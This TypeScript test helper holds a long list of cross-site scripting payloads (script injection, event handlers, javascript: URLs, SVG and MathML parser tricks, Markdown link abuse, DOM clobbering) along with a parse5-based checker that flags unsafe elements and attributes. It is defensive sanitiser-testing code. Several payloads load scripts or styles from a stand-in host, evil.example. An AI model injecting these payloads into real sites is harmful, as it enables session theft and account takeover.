import { parseFragment, type DefaultTreeAdapterMap } from 'parse5';

/**
 * Texts that try to become code, as Markdown, HTML, attribute or address. None may be live in a page,
 * a feed, an attribute or JSON-LD, whatever field it went into.
 */
export const xssPayloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script><![CDATA[',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=javascript:alert(1)>',
  '<img src="x:x" onerror="alert(1)" style="x:expression(alert(1))">',
  '<img srcset="javascript:alert(1) 1x, x 2x">',
  '<img src=x id=location name=location>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<applet code=x></applet>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="x" onclick="alert(1)" target="_blank">x</a>',
  '<a href="https://ok.example" ping="https://evil.example">x</a>',
  '<a id=config href=x></a><a id=config name=url href=javascript:alert(1)></a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java%0ascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x](x "onerror=alert(1)")',
  '![x"onerror="alert(1)](x)',
  '![film](javascript:alert(1)//.mp4)',
  '<javascript:alert(1)>',
  '[x](https://a.example/"onmouseover="alert(1))',
  'https://a.example/"onmouseover="alert(1)',
  '```"><script>alert(1)</script>\nx\n```',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '# <img src=x onerror=alert(1)>',
  '|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|',
  '[^x]\n\n[^x]: <img src=x onerror=alert(1)>',
  '- [x] <img src=x onerror=alert(1)>',
  '<video src=x onerror=alert(1) autoplay></video>',
  '<video><source onerror=alert(1) src=x></video>',
  '<video poster=javascript:alert(1)></video>',
  '<audio src=javascript:alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input type=image src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<form action=javascript:alert(1)><input type=submit></form>',
  '<form id=location><input name=href></form>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background=javascript:alert(1)><td>x',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)>',
  '<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>',
  '<x onclick=alert(1) tabindex=1 id=x>x</x>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '\u2028alert(1)\u2029',
  '<<script>alert(1)//<</script>',
  '<a href="https://ok.example"><script>alert(1)</script></a>',
];

type Node = DefaultTreeAdapterMap['node'];

const harmlessElements = new Set(
  (
    'p br hr wbr h1 h2 h3 h4 h5 h6 div section blockquote pre ul ol li dl dt dd figure figcaption details summary ' +
    'table caption colgroup col thead tbody tfoot tr th td a abbr b bdi bdo cite code del dfn em i ins kbd mark q ' +
    'rp rt ruby s samp small span strong sub sup time u var img picture source video audio track input'
  ).split(' '),
);
const addressAttributes = new Set(['href', 'src', 'poster', 'cite', 'action', 'formaction', 'data', 'ping']);

/** What a browser could run, load from code or mistake for ours in rendered post HTML; empty when it is inert. */
export function problemsIn(html: string): string[] {
  const problems: string[] = [];
  const walk = (node: Node): void => {
    if ('tagName' in node) {
      if (!harmlessElements.has(node.tagName)) problems.push(`<${node.tagName}>`);
      if (node.tagName === 'input' && !node.attrs.some(({ name }) => name === 'disabled'))
        problems.push('<input> that works');
      for (const { name, value } of node.attrs) {
        if (/^(on|style$|srcdoc$|form|name$|ping$|target$)/.test(name)) problems.push(`${name}="${value}"`);
        if (name === 'id' && /^[\w$]+$/.test(value)) problems.push(`id="${value}" can be a global name`);
        if (addressAttributes.has(name) && !isHarmlessAddress(value)) problems.push(`${name}="${value}"`);
        if (name === 'srcset' && value.split(',').some((part) => !isHarmlessAddress(part)))
          problems.push(`${name}="${value}"`);
      }
    }
    if ('childNodes' in node) node.childNodes.forEach(walk);
  };
  walk(parseFragment(html));
  return problems;
}

function isHarmlessAddress(value: string): boolean {
  // As a browser reads it: control characters and spaces do not count.
  const address = [...value].filter((character) => character > ' ').join('');
  const scheme = /^([^/?#]*?):/.exec(address)?.[1]?.toLowerCase();
  return scheme === undefined || /^(https?|mailto|tel|sms|ftp|ircs?|xmpp)$/.test(scheme);
}
